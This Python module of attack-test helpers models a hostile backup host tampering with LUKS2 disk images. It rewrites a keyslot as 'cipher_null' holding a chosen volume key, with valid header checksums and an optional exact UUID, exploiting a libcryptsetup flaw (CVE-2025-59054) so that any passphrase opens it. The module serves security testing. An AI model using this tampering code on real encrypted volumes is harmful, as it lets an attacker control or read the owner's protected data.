"""What a hostile backup host does to a LUKS2 image it stores (attack tests)."""
import hashlib, json, struct

SECONDARY_OFFSETS = [0x4000, 0x8000, 0x10000, 0x20000, 0x40000, 0x80000, 0x100000, 0x200000, 0x400000]


def _diffuse(block, hash_name="sha256"):
    size = hashlib.new(hash_name).digest_size
    out = b""
    for i in range(0, len(block), size):
        out += hashlib.new(hash_name, struct.pack(">I", i // size) + block[i:i + size]).digest()[:len(block[i:i + size])]
    return out


def af_split_zero(volume_key, stripes, hash_name="sha256"):
    """Anti-forensic split material that merges to volume_key, with every stripe but the last zero."""
    d = bytes(len(volume_key))
    for _ in range(stripes - 1):
        d = _diffuse(d, hash_name)  # d XOR 0, then diffuse
    last = bytes(a ^ b for a, b in zip(d, volume_key))
    return bytes(len(volume_key)) * (stripes - 1) + last


def read_metadata(f):
    f.seek(0)
    binary = f.read(4096)
    hdr_size = struct.unpack(">Q", binary[8:16])[0]
    f.seek(4096)
    area = f.read(hdr_size - 4096)
    return hdr_size, json.loads(area.split(b"\0", 1)[0])


def write_metadata(f, metadata, uuid=None):
    """Writes `metadata` (and `uuid`, byte for byte, when given) into both
    header copies with valid checksums."""
    f.seek(0)
    hdr_size = struct.unpack(">Q", f.read(4096)[8:16])[0]
    text = json.dumps(metadata, separators=(",", ":")).encode()
    area = text + bytes(hdr_size - 4096 - len(text))
    for offset in (0, hdr_size):
        f.seek(offset)
        binary = bytearray(f.read(4096))
        binary[448:448 + 64] = bytes(64)
        binary[16:24] = struct.pack(">Q", struct.unpack(">Q", binary[16:24])[0] + 1)  # seqid
        if uuid is not None:
            binary[168:208] = uuid.encode().ljust(40, b"\0")
        checksum = hashlib.sha256(bytes(binary) + area).digest()
        binary[448:448 + 32] = checksum
        f.seek(offset)
        f.write(bytes(binary) + area)


def null_keyslot(path, volume_key, slot="0", uuid=None):
    """Rewrites keyslot `slot` as cipher_null holding `volume_key`: libcryptsetup
    before 2.8.1 opens it with any passphrase (CVE-2025-59054). With `uuid`,
    also writes that UUID exactly (cryptsetup --uuid lowercases it)."""
    with open(path, "r+b") as f:
        _, metadata = read_metadata(f)
        keyslot = metadata["keyslots"][slot]
        stripes, hash_name = keyslot["af"]["stripes"], keyslot["af"]["hash"]
        material = af_split_zero(volume_key, stripes, hash_name)
        keyslot["area"]["encryption"] = "cipher_null-ecb"
        f.seek(int(keyslot["area"]["offset"]))
        f.write(material)
        write_metadata(f, metadata, uuid)
